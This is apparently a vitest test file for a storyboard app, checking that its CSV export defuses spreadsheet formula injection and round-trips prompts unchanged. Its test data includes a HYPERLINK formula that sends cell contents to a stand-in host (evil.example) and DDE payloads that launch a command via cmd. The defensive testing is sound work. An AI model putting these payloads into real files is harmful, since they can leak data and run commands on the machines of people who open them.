/**
 * Issue 16.7: CSV exports of the renderer (the storyboard's "Export CSV") are protected
 * against spreadsheet formula injection like the audit CSV: a prompt such as
 * =HYPERLINK("https://evil.example/?"&A1,"open") would run when a colleague opens the file in
 * a spreadsheet. Each formula-looking cell gets a leading apostrophe; reading the CSV back
 * (renderer and core) removes it, so the storyboard round-trips unchanged.
 */
import { describe, expect, it } from 'vitest';

import { fromText, newShot, toCsv, type Storyboard } from '../../../renderer/src/state/storyboard';
import { csvCell, parseCsv } from '../../../shared/storyboard/csv';
import { parseStoryboard } from '../../../shared/storyboard/validate';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(A1:A9)',
  '\t=1+1',
];

describe('renderer CSV exports are safe to open in a spreadsheet (issue 16.7)', () => {
  it('every formula-looking prompt is written as text, and reads back unchanged', () => {
    const shots = HOSTILE.map((prompt, i) => ({
      ...newShot([], { model: 'kling-2.5-turbo', resolution: '720p', duration: 5, aspectRatio: '16:9' }),
      id: `s${i}`,
      prompt,
    }));
    const sb: Storyboard = { name: 'b', shots };
    const csv = toCsv(sb);
    const cells = parseCsvRaw(csv);
    const promptCol = cells[0]!.indexOf('prompt');
    for (let i = 0; i < HOSTILE.length; i++) expect(cells[i + 1]![promptCol]!.startsWith("'"), HOSTILE[i]).toBe(true);
    expect(fromText(csv, 'b.csv').shots.map((s) => s.prompt)).toEqual(HOSTILE);
    // The core's CSV reader gives the prompts back unchanged.
    expect(
      parseCsv(csv)
        .records.slice(1)
        .map((r) => r.cells[promptCol]),
    ).toEqual(HOSTILE);
    // Its validator's only complaint: "@SUM" reads as an element name (a prompt names elements as @id, issue 13).
    const core = parseStoryboard(csv, { file: 'b.csv', format: 'csv' });
    expect(core.ok ? [] : core.problems.map((p) => [p.shot, p.field, p.value])).toEqual([['"s3"', 'prompt', '"@SUM"']]);
  });

  it('ordinary cells are untouched', () => {
    expect(csvCell('a red kite')).toBe('a red kite');
    expect(csvCell("it's fine")).toBe("it's fine");
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(parseCsv("id,prompt\na,'quoted'\n").records[1]?.cells).toEqual(['a', "'quoted'"]);
  });
});

/** The cells as a spreadsheet sees them (no apostrophe removal): a minimal RFC 4180 reader. */
function parseCsvRaw(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}
